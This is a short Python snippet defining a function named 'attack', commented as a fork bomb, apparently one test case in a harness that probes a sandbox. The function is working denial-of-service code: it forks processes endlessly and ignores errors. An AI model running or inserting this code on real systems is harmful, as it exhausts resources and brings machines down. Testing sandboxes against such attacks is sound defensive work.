# tries: a fork bomb
def attack(keys, j):
    while True:
        with suppress(OSError):
            os.fork()
